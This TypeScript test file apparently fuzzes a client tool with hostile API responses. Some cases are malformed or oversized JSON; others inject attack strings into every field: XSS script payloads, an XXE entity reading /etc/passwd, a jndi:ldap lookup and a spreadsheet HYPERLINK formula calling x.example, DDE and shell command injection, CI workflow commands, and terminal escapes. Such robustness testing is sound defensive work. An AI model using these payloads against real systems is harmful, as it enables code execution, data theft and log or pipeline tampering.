import type { Change } from '../fault.ts';
import { mapped } from '../fault-kit/documents.ts';
import { on } from '../fault-kit/on.ts';
import { asText } from '../fault-kit/records.ts';
import { eachObject, type Loose, withHeader } from '../fault-kit/responses.ts';
import { chain } from '../fault-kit/table.ts';
import * as kit from './kit.ts';

const ERRORS = [400, 401, 403, 404, 405] as const;
const NAMES_UNREAD = /a body with more than 2,000 different names of fields was not read/;

function text(change: (body: string) => string): kit.Serve {
  return kit.over(on.anything.rewrites(change));
}

/** A field of all records of sales, with this JSON text as its value. */
function total(value: string): kit.Serve {
  return text((body) => body.replace(/"total":[\d.]+/g, `"total":${value}`));
}

function nested(open: string, close: string, levels: number): string {
  return `{"data":${open.repeat(levels)}${close.repeat(levels)}}`;
}

let made = 0;

/** Fields that no other answer has. */
function newFields(count: number): Loose {
  made += count;
  const first = made - count;
  return Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`aFieldWithTheNumber${first + index}`, index]),
  );
}

const MANY_FIELDS = newFields(20_000);

function placesOf(names: number): string {
  const inner = many(names);
  return `{${Array.from({ length: names }, (_, index) => `"part${index}":{${inner}}`).join(',')}}`;
}

function many(count: number): string {
  return Array.from({ length: count }, (_, index) => `"field${index}":${index}`).join(',');
}

const PROTOTYPE =
  '"__proto__":{"polluted":1,"toString":1},"constructor":{"prototype":{"polluted":1}},"hasOwnProperty":1,"then":1,"toJSON":1,"length":1e9,';

/** A text in all places from which reports take texts: names, values, types, ids, errors and the API description. */
function everywhere(text: string): Change {
  return chain(
    on.anything.sets(asText('id', (id) => `${text}${id}`)),
    on.anything.sets({ name: text, type: text, status: text, createdAt: text, [text]: text }),
    kit.inObjects(on.me, { name: text, prefix: text, last4: text }),
    on.document.setsBody({ openapi: text, info: { title: text, version: text, description: text }, [text]: text }),
    on.anything.addsToError(ERRORS, { message: text, code: text, [text]: text }),
    ...['server', 'x-powered-by'].map((name) =>
      on.anything.changeResponse((response) => withHeader(response, name, inHeader(text))),
    ),
  );
}

function inHeader(text: string): string {
  return text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 500);
}

function texts(text: string): kit.Scene {
  return {
    serves: kit.over(everywhere(text)),
    command: kit.check({ formats: kit.FORMATS, more: ['--bundle'] }),
    says: kit.VERDICT,
  };
}

export const valueRows = kit.hostileTable`
  # JSON that is hard to read, to keep or to count with
  1,3,4 deep-lists: Two million lists within each other, in every body ${kit.json(nested('[', ']', 2_000_000))}
  1,3 deep-objects-in-products: Half a million objects within each other, in one list
    ${kit.at('/products', kit.json(`{"data":[${'{"a":'.repeat(500_000)}1${'}'.repeat(500_000)}]}`))}
  1,3 wide-records: Sales with twenty thousand fields more
    ${kit.at('/sales', kit.json(`{"data":[{${many(20_000)}}],"pagination":{"nextCursor":null}}`))}
  3 many-names: Sales with two million fields more, in 28 MB
    ${{ serves: kit.at('/sales', kit.json(`{"data":[{${many(2_000_000)}}],"pagination":{"nextCursor":null}}`)), says: kit.VERDICT }}
  1,3 many-names-everywhere: Each record of every list has a thousand fields of its own
    ${{
      serves: kit.over(
        on.lists.sets((_, index) =>
          Object.fromEntries(Array.from({ length: 1000 }, (_, field) => [`field${index}x${field}`, field])),
        ),
      ),
      says: NAMES_UNREAD,
    }}
  0,1,3 many-new-names: Every answer has fifteen hundred names that no other has
    ${kit.over(on.anything.setsBody(() => newFields(1500)))}
  1,3 many-names-in-errors: Every refusal has twenty thousand fields
    ${{ serves: kit.over(on.anything.addsToError(ERRORS, MANY_FIELDS)), says: kit.ANY_VERDICT }}
  0,1,3 many-new-names-in-errors: Every refusal has fifteen hundred names that no other has
    ${kit.over(on.anything.addsToError(ERRORS, () => newFields(1500)))}
  1,3 many-places: Names within names, which make ninety thousand places of a few
    ${{ serves: kit.at('/products', kit.json(`{"data":[${placesOf(300)}]}`)), says: NAMES_UNREAD }}
  1,3 many-records: A page of a hundred thousand empty records
    ${kit.at('/products', kit.json(`{"data":[${Array(100_000).fill('{}').join(',')}]}`))}
  1,3 long-text: A name of twenty megabytes
    ${kit.at('/products', kit.json(`{"data":[{"id":"a","name":"${'x'.repeat(20 * 2 ** 20)}"}]}`))}
  1,3 long-names: Fields whose names have a megabyte
    ${kit.at('/stores', kit.json(`{"data":[{"${'n'.repeat(2 ** 20)}":1,"id":"a","name":"b","branchNo":"c"}]}`))}
  1,3 prototype-keys: Every object names what all objects inherit
    ${text((body) => body.replaceAll('{', `{${PROTOTYPE}`).replaceAll(',}', '}'))}
  0,1,3 duplicate-keys: Every object names its fields twice
    ${text((body) => body.replace(/"id":("[^"]*")/g, '"id":"first","id":null,"id":$1'))}
  1,3 invalid-utf-8: Texts with bytes that are not UTF-8
    ${kit.at('/products', kit.json(Buffer.from('{"data":[{"id":"\xff\xc0\xaf\xed\xa0\x80"}]}', 'latin1')))}
  0,1,3 lone-surrogates: Half of a character in every name
    ${text((body) => body.replace(/"name":"/g, '"name":"\\ud800'))}
  1,3 numbers-beyond-doubles: Totals that no double can hold ${total('1e999')}
  1,3 long-numbers: Totals of a thousand digits ${total('9'.repeat(1000))}
  1,3 tiny-numbers: Totals that differ from zero by nothing that can be written ${total('-0.0e-999')}
  1,3 not-a-number: NaN where a number should be ${total('NaN')}
  1,3 ids-of-objects: Ids are lists, objects and nothing
    ${kit.over(on.anything.sets(({ id }) => ({ id: [{ id }, null, {}] })))}
  1,3 everything-null: Every value of every record is null
    ${kit.over(on.anything.sets((record) => mapped(record, () => null)))}
  1,3 everything-a-list: Every object is wrapped in a list
    ${kit.over(
      on.anything.changeBody(({ data }) =>
        eachObject(data, (object) =>
          Object.assign(
            object,
            mapped(object, () => [[]]),
          ),
        ),
      ),
    )}
  1,3 data-is-an-object: A list whose records have names, such as length
    ${kit.over(on.lists.setsBody({ data: { length: 1e9, 0: {}, map: 'x', [Symbol.iterator.toString()]: 1 } }))}
  1,3 impossible-times: Times that no calendar has
    ${text((body) => body.replace(/"createdAt":"[^"]*"/g, '"createdAt":"+275761-13-45T99:99:99.999Z"'))}
  0,1,3 byte-order-mark: A mark in front of every body ${{ serves: text((body) => `\ufeff${body}`), says: /./ }}
  1,3 two-values: Two JSON values in one body ${kit.at('/products', kit.json('{"data":[]}{"data":[{}]}'))}
  1,3,4 text-for-everything: A JSON text in place of every answer ${kit.answers(200, {}, '"hostile"')}
  1,3,4 empty-object-for-everything: An empty object in place of every answer ${kit.json('{}')}
  1,3 empty-list-for-everything: An empty list in place of every answer
    ${kit.json('{"data":[],"pagination":{"nextCursor":null}}')}
  # Texts that something behind us would act on: a terminal, a pipeline, a browser, a shell, a spreadsheet
  1 workflow-commands: Texts that are commands to a pipeline, behind line breaks of every kind
    ${texts('::error title=x::owned\n::set-output name=x::y\r::add-mask::x\u2028::stop-commands::x\n##vso[task.setvariable variable=x]y\n%0A::error::z')}
  1 workflow-commands-in-actions: The same where GitHub Actions reads the annotations
    ${{ ...texts('x\n##[error]owned\n##vso[task.setvariable variable=x]y'), env: () => ({ TF_BUILD: 'True', CI: 'true' }) }}
  1 terminal-escapes: Texts that a terminal acts on
    ${texts('\u001b[2J\u001b]0;owned\u0007\u001b]8;;http://x.example\u001b\\link\u009b31m\u0008\u0007\u0090q\u009c\r')}
  1 reversed-text: Texts that change the direction in which they are read
    ${texts('\u202egnp.exe\u2066\u2069\u200f\u061c\u200b\ufeff')}
  1 html: Texts that are markup with scripts
    ${texts(`"'>${kit.MARKUP} onload=alert(1)></script><script>alert(1)</script><img src=x onerror=alert(1)><!--<svg/onload=alert(1)>`)}
  1 markdown: Texts that are links, images and tables of Markdown
    ${texts(`![x](http://x.example/track.png) [click](javascript:alert(1)) | a | b |\n|---|---|\n\`\`\`\n# owned ${kit.MARKUP} x=1>\n<details open ontoggle=alert(1)>`)}
  1 xml: Texts that end a section of XML, or name entities
    ${texts(`]]>${kit.MARKUP}/><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&#0;\u0000\u0001\ufffe\uffff`)}
  1 formulas: Texts that a spreadsheet would compute
    ${texts('=HYPERLINK("http://x.example?"&A1,"x")\n+cmd|\' /C calc\'!A0\n@SUM(1)\n-2+3')}
  1 shell: Texts that a shell would run, in every line of curl too
    ${texts("'; touch owned; '$(touch owned)`touch owned`\n\" && touch owned #\\")}
  1 templates: Texts that a template or a logger would expand
    ${texts(`${'$'}{jndi:ldap://x.example/a}{{constructor.constructor("alert(1)")()}}%s%n%x<%= 7*7 %>#{7*7}`)}
  1 prototype-names: Texts that are names of what all objects inherit ${texts('__proto__')}
  1 long-words: Texts of a hundred kilobytes without a space ${texts('live_'.repeat(20_000))}
  1 near-matches: Texts that almost look like telephone numbers, addresses and keys, again and again
    ${texts(`${'+66 9-'.repeat(500)}${'a@'.repeat(500)}${'9 '.repeat(500)}${'cp_live_'.repeat(150)}`)}
  0,1,3 headers-with-texts: Headers that are commands to a pipeline
    ${{ ...texts(''), says: kit.ANY_VERDICT, serves: kit.withHeaders(() => ({ server: '::error::owned', 'x-request-id': '::set-output name=a::b', 'content-type': 'application/json; ::error::x' })) }}
`;
